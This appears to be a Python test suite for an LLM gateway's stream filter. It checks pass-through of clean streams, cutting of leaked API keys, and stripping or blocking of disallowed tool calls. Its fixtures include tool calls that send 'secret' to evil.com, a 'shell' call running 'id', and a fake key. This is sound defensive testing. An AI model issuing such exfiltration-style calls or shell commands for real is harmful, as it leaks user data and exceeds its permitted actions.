import itertools
import json
from typing import Any

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from garrison.gateway.guarding import ContentPolicy, GuardConfig
from garrison.gateway.keys import ApiKey
from garrison.gateway.stream_filter import StreamFilter
from garrison.gateway.tool_policy import ToolPolicy, ToolRule
from garrison.llm.sensitive_guard import Vault

KEY = ApiKey(id="gk_test", owner="alice")
SECRET = "sk-proj-" + "Ab3dE5gH7jK9mN1pQ3sT5vX7zB9dF1hJ"
WORDS = ["Hello", "world", "naïve", "café", "日本語", "🙂", "über", "the", "data", "is", "ok"]
FETCH = ToolRule(url_args=("url",), allowed_domains=("api.example.com",))
POLICY = ContentPolicy(GuardConfig(output="block", stream_check_chars=32), ToolPolicy())


def event(obj: dict[str, Any], eol: str = "\n") -> bytes:
    return f"data: {json.dumps(obj, ensure_ascii=False)}{eol}{eol}".encode()


def chunk(eol: str = "\n", finish: str | None = None, **delta: Any) -> bytes:
    obj = {
        "id": "chatcmpl-1",
        "object": "chat.completion.chunk",
        "created": 1,
        "model": "m",
        "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
    }
    return event(obj, eol)


DONE = b"data: [DONE]\n\n"


def stream(*pieces: str, finish: str = "stop") -> bytes:
    body = b"".join(chunk(content=p) for p in pieces)
    return chunk(role="assistant", content="") + body + chunk(finish=finish) + DONE


def run(f: StreamFilter, data: bytes, cuts: list[int] | None = None) -> bytes:
    bounds = sorted({0, len(data), *(c % (len(data) + 1) for c in cuts or [])})
    out = b"".join(f.feed(data[a:b]) for a, b in itertools.pairwise(bounds))
    return out + f.close()


def events(out: bytes) -> list[Any]:
    found = []
    for block in out.decode().split("\n\n"):
        if block.startswith("data: "):
            data = block[len("data: ") :]
            found.append(data if data == "[DONE]" else json.loads(data))
    return found


def tool_delta(index: int, name: str | None = None, args: str = "") -> list[dict[str, Any]]:
    call: dict[str, Any] = {"index": index, "function": {"arguments": args}}
    if name:
        call.update(id=f"call_{index}", type="function")
        call["function"]["name"] = name
    return [call]


def tool_stream(*calls: tuple[str, str]) -> bytes:
    parts = [chunk(role="assistant", content=None)]
    for i, (name, args) in enumerate(calls):
        parts.append(chunk(tool_calls=tool_delta(i, name)))
        half = len(args) // 2
        parts += [chunk(tool_calls=tool_delta(i, args=args[:half]))]
        parts += [chunk(tool_calls=tool_delta(i, args=args[half:]))]
    return b"".join([*parts, chunk(finish="tool_calls"), DONE])


# -- pass-through ---------------------------------------------------------------------------


@st.composite
def clean_streams(draw: st.DrawFn) -> tuple[bytes, str]:
    """A clean stream, with the text its chunks carry."""
    eol = draw(st.sampled_from(["\n", "\r\n", "\r"]))
    parts = [chunk(eol, role="assistant", content="")]
    texts = []
    for _ in range(draw(st.integers(1, 25))):
        kind = draw(st.sampled_from(["text", "text", "text", "comment", "multiline"]))
        text = " ".join(draw(st.lists(st.sampled_from(WORDS), min_size=1, max_size=6))) + " "
        if kind == "comment":
            parts.append(f": keep-alive{eol}{eol}".encode())
            continue
        texts.append(text)
        if kind == "multiline":  # one JSON value over two data lines
            raw = json.dumps({"choices": [{"index": 0, "delta": {"content": text}}]})
            head, tail = raw.split(", ", 1)
            parts.append(f"data: {head},{eol}data: {tail}{eol}{eol}".encode())
        else:
            parts.append(chunk(eol, content=text))
    parts.append(chunk(eol, finish="stop"))
    if draw(st.booleans()):
        parts.append(f"data: [DONE]{eol}{eol}".encode())
    return b"".join(parts), "".join(texts)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(clean_streams(), st.lists(st.integers(0, 10_000), max_size=40))
def test_clean_stream_passes_byte_for_byte_however_it_is_split(
    stream: tuple[bytes, str], cuts: list[int]
) -> None:
    data, text = stream
    f = POLICY.stream_filter("chat", KEY)
    assert run(f, data, cuts) == data
    assert not f.cut
    assert f.text == text


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=600), st.lists(st.integers(0, 600), max_size=20))
def test_arbitrary_bytes_never_raise(data: bytes, cuts: list[int]) -> None:
    f = StreamFilter(lambda text: (False, ()), ToolPolicy(), max_buffer_bytes=256)
    out = run(f, b"data: " + data, cuts)
    if f.cut:
        assert out.endswith(DONE)


ODD: st.SearchStrategy[Any] = st.sampled_from(
    [None, True, 0, 1, -1, 2.5, "", "x", [], {}, [{}], {"index": 0}, {"function": "f"},
     {"name": 1}, {"name": "fetch", "arguments": 3}, {"arguments": "{"}, {"index": [1]}]
)  # fmt: skip
FIELDS = st.sampled_from(["content", "tool_calls", "function_call", "role", "index", "text"])


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.dictionaries(
            FIELDS, ODD | st.lists(st.dictionaries(FIELDS | st.just("function"), ODD), max_size=3)
        ),
        max_size=6,
    ),
    st.sampled_from(["block", "strip"]),
)
def test_odd_chunk_shapes_never_raise(deltas: list[dict[str, Any]], mode: str) -> None:
    f = tools_filter(mode)
    data = b"".join(
        event({"choices": [{"index": d.get("index", 0), "delta": d, "text": d.get("text")}]})
        for d in deltas
    )
    out = run(f, data + chunk(finish="tool_calls") + DONE)
    assert out.endswith(DONE)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(0, 5000), max_size=30))
def test_secret_mid_stream_is_cut_however_it_is_split(cuts: list[int]) -> None:
    tail = [" more", " text", " after", " the", " key"] * 20
    data = stream("Here", " is", " the", " key:", f" {SECRET[:12]}", SECRET[12:], *tail)
    f = POLICY.stream_filter("chat", KEY)
    out = run(f, data, cuts)
    sent = events(out)
    assert f.cut and f.reason == "guard.output"
    assert sent[-1] == "[DONE]"
    assert sent[-2]["choices"][0]["finish_reason"] == "content_filter"
    assert sent[-2]["id"] == "chatcmpl-1" and sent[-2]["model"] == "m"
    assert "more" not in out.decode()  # nothing forwarded past the check
    assert {v.name: v.verdict for v in f.verdicts}["secrets"] == "block"
    assert f.feed(b"data: more\n\n") == b"" and f.close() == b""


def test_holdback_forwards_only_checked_text() -> None:
    config = GuardConfig(output="block", stream_check_chars=64, stream_holdback=True)
    f = ContentPolicy(config, ToolPolicy()).stream_filter("chat", KEY)
    first = f.feed(chunk(content="The key is ") + chunk(content=SECRET))
    assert first == b""  # nothing checked yet, so nothing sent
    out = f.feed(chunk(content=" and that is all." * 4))
    assert SECRET not in out.decode() and f.cut
    clean = stream("All", " good", " here.")
    g = ContentPolicy(config, ToolPolicy()).stream_filter("chat", KEY)
    assert run(g, clean) == clean


def test_redact_mode_cuts_secrets_but_only_records_personal_data() -> None:
    policy = ContentPolicy(GuardConfig(output="redact", stream_check_chars=16), ToolPolicy())
    f = policy.stream_filter("chat", KEY)
    pii = stream("Write to bob", "@corp.example.net today", " please.")
    assert run(f, pii) == pii
    assert {v.name: v.verdict for v in f.verdicts}["pii"] == "flag"
    g = policy.stream_filter("chat", KEY)
    run(g, stream("Key: ", SECRET, " done and more text here"))
    assert g.cut


def test_log_and_off_modes_never_cut() -> None:
    data = stream("Key: ", SECRET, " done")
    for mode in ("log", "off"):
        policy = ContentPolicy(GuardConfig(output=mode), ToolPolicy())
        f = policy.stream_filter("chat", KEY)
        assert run(f, data) == data and not f.cut
        assert SECRET in f.text


def test_completion_stream_cut_has_its_own_shape() -> None:
    text = {"id": "cmpl-1", "object": "text_completion", "created": 1, "model": "m"}
    data = event({**text, "choices": [{"index": 0, "text": f"key {SECRET} and more"}]}) + DONE
    f = POLICY.stream_filter("completions", KEY)
    sent = events(run(f, data))
    assert sent[-2]["choices"][0] == {
        "index": 0,
        "text": "",
        "logprobs": None,
        "finish_reason": "content_filter",
    }
    assert sent[-2]["object"] == "text_completion"


# -- tool calls ---------------------------------------------------------------------------


def tools_filter(mode: str, **kw: Any) -> StreamFilter:
    policy = ToolPolicy(mode=mode, rules={"fetch": FETCH}, **kw)
    return ContentPolicy(GuardConfig(output="block"), policy).stream_filter("chat", KEY)


def test_tool_call_deltas_are_held_until_complete_then_forwarded() -> None:
    data = tool_stream(("fetch", '{"url": "https://api.example.com/items"}'))
    f = tools_filter("block")
    pieces = data.split(b"\n\n")[:-1]
    outs = [f.feed(p + b"\n\n") for p in pieces]
    assert outs[0] != b""  # the role chunk goes at once
    assert all(o == b"" for o in outs[1:4])  # the call's deltas wait for its end
    assert b"".join(outs) + f.close() == data
    assert not f.violations


def test_violating_call_is_stripped_and_calls_renumbered() -> None:
    data = tool_stream(
        ("fetch", '{"url": "https://evil.com/?q=secret"}'),
        ("fetch", '{"url": "https://api.example.com/ok"}'),
    )
    f = tools_filter("strip")
    sent = events(run(f, data, [37, 400, 401]))
    calls = [c for e in sent[:-1] for ch in e["choices"] for c in ch["delta"].get("tool_calls", [])]
    assert {c["index"] for c in calls} == {0}
    assert "evil.com" not in json.dumps(sent)
    args = "".join(c["function"].get("arguments", "") for c in calls)
    assert json.loads(args) == {"url": "https://api.example.com/ok"}
    assert sent[-2]["choices"][0]["finish_reason"] == "tool_calls"
    assert sent[-1] == "[DONE]" and not f.cut
    assert [v.rule for v in f.violations] == ["tool.domain"]
    assert {v.name: v.verdict for v in f.verdicts}["tool_policy"] == "redact"


def test_stripping_every_call_finishes_with_stop() -> None:
    f = tools_filter("strip")
    sent = events(run(f, tool_stream(("fetch", '{"url": "https://evil.com/"}'))))
    assert "tool_calls" not in json.dumps(sent)
    assert sent[-2]["choices"][0]["finish_reason"] == "stop"


def test_violating_call_in_block_mode_cuts_the_stream() -> None:
    f = tools_filter("block", max_calls=1)
    data = tool_stream(
        ("fetch", '{"url": "https://api.example.com/a"}'),
        ("fetch", '{"url": "https://api.example.com/b"}'),
    )
    sent = events(run(f, data))
    assert f.cut and f.reason == "tool_policy"
    assert "tool_calls" not in json.dumps(sent[:-2])
    assert sent[-2]["choices"][0]["finish_reason"] == "content_filter"


def test_calls_are_checked_when_the_stream_ends_without_finish() -> None:
    f = tools_filter("block")
    data = chunk(tool_calls=tool_delta(0, "fetch", '{"url": "https://evil.com/"}'))
    assert f.feed(data) == b""
    end = events(f.close())
    assert f.cut and end[-1] == "[DONE]"


def test_unoffered_tool_is_refused() -> None:
    request = {"messages": [], "tools": [{"type": "function", "function": {"name": "fetch"}}]}
    policy = ContentPolicy(GuardConfig(), ToolPolicy())
    f = policy.stream_filter("chat", KEY, request=request)
    run(f, tool_stream(("shell", '{"cmd": "id"}')))
    assert f.cut and f.violations[0].rule == "tool.not_offered"


# -- limits and placeholders ----------------------------------------------------------------


def test_buffered_bytes_are_bounded() -> None:
    f = StreamFilter(None, ToolPolicy(), max_buffer_bytes=1000)
    out = f.feed(b"data: " + b"x" * 2000)
    assert f.cut and f.reason == "stream.limit" and out.endswith(DONE)
    g = StreamFilter(None, ToolPolicy(), max_buffer_bytes=2000)
    many = b"".join(
        chunk(tool_calls=tool_delta(0, "f" if i == 0 else None, "a" * 50)) for i in range(40)
    )
    assert g.feed(many).endswith(DONE) and g.reason == "stream.limit"


def test_placeholders_split_across_chunks_are_restored() -> None:
    vault = Vault()
    token = vault.placeholder("email", "alice@example.com")
    policy = ContentPolicy(GuardConfig(output="block"), ToolPolicy())
    f = policy.stream_filter("chat", KEY, vault=vault)
    data = stream("Mail ", token[:4], token[4:] + " now", " <not")
    sent = events(run(f, data, [50, 120]))
    text = "".join(
        e["choices"][0]["delta"].get("content") or "" for e in sent if isinstance(e, dict)
    )
    assert text == "Mail alice@example.com now <not"
    assert token in f.text  # the model's own text, as it wrote it
    assert not f.cut


def test_keep_alive_comments_pass_through() -> None:
    f = POLICY.stream_filter("chat", KEY)
    assert f.feed(b": ping\n\n") == b": ping\n\n"
    assert f.feed(b'data: {"choices": []}\n') == b""
    assert f.feed(b"\n") == b'data: {"choices": []}\n\n'
